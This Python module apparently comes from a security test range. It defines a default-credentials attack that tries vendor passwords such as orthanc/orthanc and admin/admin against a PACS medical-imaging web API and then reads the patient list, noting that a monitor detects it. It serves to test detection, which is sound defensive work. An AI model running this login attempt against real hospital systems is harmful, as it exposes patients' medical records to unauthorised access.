"""Vendor default web credentials (orthanc/orthanc, admin/admin) against the PACS's web API (T1078.001).

Seen by the monitor in the cleartext HTTP (web-default-credentials-used compares a keyed hash of the Basic
credential with the known defaults); nothing stops it.
"""

from __future__ import annotations

from radguard.range.attacks.kit import Attack, Context, Outcome

DEFAULTS = (("orthanc", "orthanc"), ("admin", "admin"), ("admin", "password"))


def run(ctx: Context) -> Outcome:
    for user, password in DEFAULTS:
        code, _ = ctx.rest("GET", "/system", auth=(user, password))
        if code == 200:
            code, _ = ctx.rest("GET", "/patients", auth=(user, password))
            return Outcome(success=code == 200, impact={"admin_access": int(code == 200)},
                           note=f"web API answered with {user}/*** (or without any check)")
    return Outcome(success=False, impact={"admin_access": 0}, note="no default credential accepted")


ATTACK = Attack(
    name="default-credentials", title="Vendor default web credentials", attack_ids=("T1078.001", "T0812"),
    precondition="network access to the PACS's web port", objective="the web API's patient list read",
    layers=("monitor",), run=run)
